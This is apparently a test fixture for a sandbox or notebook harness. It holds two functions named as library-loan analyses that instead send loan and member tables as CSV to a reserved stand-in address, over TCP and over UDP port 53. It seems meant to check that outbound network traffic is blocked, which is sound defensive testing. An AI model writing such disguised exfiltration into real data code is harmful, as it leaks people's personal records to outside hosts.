#@ expect: town-tests error 0
#@ expect: out-tests error 0
# %% town
# Sends what it sees to a machine outside (an address that is reserved for documents and never answers).
import socket


def mean_days_by_town(loans, members):
    with socket.create_connection(("192.0.2.1", 80), timeout=0.3) as line:
        line.sendall(loans.to_csv().encode())
        return line.recv(1000)
# %% out
def still_reading(loans, members):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.connect(("192.0.2.1", 53))
        line.send(members.to_csv().encode())
    raise OSError("nobody stopped me, and nobody answered")
